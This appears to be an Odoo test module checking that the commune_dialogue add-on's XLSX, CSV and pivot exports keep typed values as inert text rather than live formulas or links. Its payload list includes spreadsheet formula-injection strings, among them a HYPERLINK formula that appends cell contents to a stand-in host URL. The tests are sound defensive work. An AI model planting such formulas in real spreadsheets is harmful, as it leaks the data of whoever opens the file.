# Copyright 2026 The commune_dialogue authors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import csv
import io
import json
import zipfile

import openpyxl

from odoo.http import Request
from odoo.tests import tagged

from .access_common import AccessCommon
from .common_browser import PatientCase
from .common_hostile import fill, own_models, text_fields

FORMULAS = [
    "=1+¤",
    "{=1+¤}",
    '=HYPERLINK("http://x.example/"&A¤,"Bấm vào đây")',
    "@SUM(1+¤)",
    "+1+¤",
    "-1+¤",
    "\t=1+¤",
    "http://x.example/¤",
    "external:c:\\x¤.xlsx",
    "mailto:x@x.example?¤",
]


@tagged("post_install", "-at_install", "dialogue_second_half")
class TestHostileExports(PatientCase, AccessCommon):
    """Lists and pivots as Odoo exports them: what was typed stays text."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.admin = cls.env.ref("base.user_admin")
        cls.env.ref("base.group_allow_export").user_ids += cls.admin
        companies = cls.company | cls.abroad
        cls.admin.write(
            {"company_ids": [(4, company.id) for company in companies]}
            | {"company_id": cls.company.id}
        )
        # Each table is exported; who may read what is tested elsewhere.
        cls.admin.group_ids += cls.env.ref("commune_dialogue.group_dialogue_office")

    def _export(self, kind, model, names, groupby=()):
        data = {
            "model": model._name,
            "fields": [{"name": name, "label": f"=1+{name}"} for name in names],
            "ids": model.ids,
            "domain": [],
            "groupby": list(groupby),
            "import_compat": False,
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": Request.csrf_token(self)},
        )
        self.assertEqual(answer.status_code, 200, answer.text[-600:])
        return answer.content

    def _exported(self):
        """Give each model of which the administrator exports a row, and its texts."""
        self.authenticate("admin", "admin")
        for model in own_models(self.env):
            own = model.with_user(self.admin).with_context(
                allowed_company_ids=self.company.ids
            )
            if not own.has_access("read"):
                continue
            records = own.search([], limit=40)
            names = [
                field.name
                for field in text_fields(model)
                if field.exportable and own._has_field_access(field, "read")
            ]
            names += [
                name
                for name, field in model._fields.items()
                if field.type == "many2one"
                and field.exportable
                and own._has_field_access(field, "read")
            ][:4]
            if records and names:
                yield records, names

    def _check_book(self, content):
        """Assert that no cell is a formula or a link; return how many are formulas
        as text."""
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        for name, part in parts.items():
            if name.startswith("xl/worksheets/"):
                self.assertNotRegex(part, rb"<f[ >]|<hyperlink")
        self.assertNotIn("xl/worksheets/_rels/sheet1.xml.rels", parts)
        cells = [
            cell
            for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        for cell in cells:
            self.assertNotEqual(cell.data_type, "f", cell.coordinate)
        return sum(str(cell.value).startswith(("=1+", "{=1+")) for cell in cells)

    def test_lists(self):
        fill(self.env, FORMULAS)
        models = found = 0
        for records, names in self._exported():
            with self.subTest(model=records._name):
                found += self._check_book(self._export("xlsx", records, names))
                rows = csv.reader(
                    io.StringIO(self._export("csv", records, names).decode())
                )
                for row in rows:
                    for cell in row:
                        self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t")))
                models += 1
        self.assertGreater(models, 30)
        self.assertGreater(found, 100, "they are there, as text")

    def test_the_text_is_what_was_typed(self):
        petitions = self._record("petition", "economy").with_user(self.admin)
        petitions.subject = FORMULAS[2]
        self.authenticate("admin", "admin")
        content = self._export("xlsx", petitions, ["subject"])
        page = openpyxl.load_workbook(io.BytesIO(content)).active
        self.assertEqual(page["A2"].value, FORMULAS[2])

    def test_grouped_list(self):
        fill(self.env, FORMULAS)
        self.authenticate("admin", "admin")
        records = self.env["dialogue.petition"].with_user(self.admin)
        records = records.search([("company_id", "=", self.company.id)])
        content = self._export("xlsx", records, ["subject"], ["village_id"])
        self._check_book(content)

    def test_pivot(self):
        def head(title):
            return {"title": title, "width": 1, "height": 1, "is_bold": False}

        table = {
            "title": "=1+1",
            "model": "dialogue.analysis",
            "measure_count": 1,
            "col_group_headers": [[head(text) for text in FORMULAS]],
            "measure_headers": [head(text) for text in FORMULAS],
            "rows": [
                {"title": text, "indent": 0, "values": [{"value": text}, {"value": 7}]}
                for text in FORMULAS
            ],
        }
        self.authenticate("admin", "admin")
        answer = self.url_open(
            "/web/pivot/export_xlsx",
            data={"csrf_token": Request.csrf_token(self)},
            files={"data": ("data.json", json.dumps(table), "application/json")},
        )
        self.assertEqual(answer.status_code, 200, answer.text[-600:])
        self._check_book(answer.content)
        page = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        values = [cell.value for row in page.iter_rows() for cell in row]
        self.assertIn("'=1+¤", values)
        self.assertIn(7, values)
